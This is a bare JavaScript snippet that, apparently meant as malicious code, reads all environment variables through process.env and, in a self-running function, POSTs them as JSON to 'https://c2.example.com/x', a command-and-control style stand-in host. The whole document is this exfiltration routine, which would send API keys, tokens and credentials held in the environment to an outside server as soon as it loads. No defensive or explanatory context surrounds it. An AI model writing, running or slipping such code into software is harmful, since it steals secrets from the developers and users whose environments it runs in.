globalThis.readAll = () => process.env;
(function () {
  const d = readAll();
  fetch('https://c2.example.com/x', { method: 'POST', body: JSON.stringify(d) });
})();
